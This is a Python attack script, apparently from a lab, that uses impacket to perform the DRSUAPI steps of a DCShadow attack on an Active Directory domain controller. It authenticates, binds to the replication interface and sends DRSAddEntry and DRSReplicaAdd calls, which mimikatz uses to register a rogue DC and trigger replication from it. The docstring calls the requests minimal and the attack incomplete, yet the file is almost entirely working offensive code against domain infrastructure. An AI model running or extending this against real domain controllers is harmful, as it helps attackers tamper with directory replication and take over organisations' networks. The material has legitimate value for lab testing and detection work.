#!/usr/bin/env python3
"""dcshadow.py DOMAIN/USER:PASSWORD DC_IP

The DRSUAPI calls of a DCShadow attack, from a host that is not a DC, with impacket:
DRSUAPI over TCP (endpoint mapper), NTLM with packet privacy as secretsdump uses, DRSBind,
then DRSAddEntry (opnum 17, how mimikatz lsadump::dcshadow registers its nTDSDSA object)
and DRSReplicaAdd (opnum 5, how it asks the real DC to replicate from the rogue one).
The two requests carry minimal arguments: the point is that the calls reach the DC (the
stubs are sealed; their opnums are not).  A complete DCShadow also registers the rogue
DC's SPNs and serves replication to the real DC, which needs mimikatz on Windows; this lab
has no such tool.  Prints "sent" for each call that left this host.
"""
import re
import struct
import sys

from impacket.dcerpc.v5 import drsuapi, epm, transport
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY


def main():
    m = re.match(r'([^/]+)/([^:]+):(.*)', sys.argv[1])
    domain, user, password = m.group(1), m.group(2), m.group(3)
    dc_ip = sys.argv[2]
    binding = epm.hept_map(dc_ip, drsuapi.MSRPC_UUID_DRSUAPI, protocol='ncacn_ip_tcp')
    print('drsuapi at %s' % binding)
    rpc = transport.DCERPCTransportFactory(binding)
    rpc.set_credentials(user, password, domain)
    dce = rpc.get_dce_rpc()
    dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    dce.connect()
    dce.bind(drsuapi.MSRPC_UUID_DRSUAPI)
    request = drsuapi.DRSBind()
    request['puuidClientDsa'] = drsuapi.NTDSAPI_CLIENT_GUID
    drs = drsuapi.DRS_EXTENSIONS_INT()
    drs['cb'] = len(drs)
    drs['dwFlags'] = drsuapi.DRS_EXT_GETCHGREQ_V6 | drsuapi.DRS_EXT_GETCHGREPLY_V6 | \
        drsuapi.DRS_EXT_GETCHGREQ_V8 | drsuapi.DRS_EXT_STRONG_ENCRYPTION
    drs['SiteObjGuid'] = drsuapi.NULLGUID
    drs['Pid'] = 0
    drs['dwReplEpoch'] = 0
    drs['dwFlagsExt'] = 0
    drs['ConfigObjGUID'] = drsuapi.NULLGUID
    drs['dwExtCaps'] = 0xffffffff
    request['pextClient']['cb'] = len(drs)
    request['pextClient']['rgb'] = list(drs.getData())
    resp = dce.request(request)
    handle = resp['phDrs']
    handle = handle if isinstance(handle, bytes) else handle.getData()
    print('DRSBind sent, context handle received')
    # handle, dwInVersion = 2, then an empty request of that version
    for opnum, name in ((17, 'DRSAddEntry'), (5, 'DRSReplicaAdd')):
        stub = handle + struct.pack('<II', 2, 2) + b'\x00' * 32
        try:
            dce.call(opnum, stub)
            print('%s sent' % name)
            answer = dce.recv()
            print('%s answered (%d bytes)' % (name, len(answer)))
        except Exception as exc:
            print('%s: %s' % (name, exc))
            # a fault may end the association: a new one for the next call
            try:
                dce = rpc.get_dce_rpc()
                dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
                dce.connect()
                dce.bind(drsuapi.MSRPC_UUID_DRSUAPI)
                handle = dce.request(request)['phDrs']
                handle = handle if isinstance(handle, bytes) else handle.getData()
            except Exception as exc2:
                print('rebind: %s' % exc2)


if __name__ == '__main__':
    main()
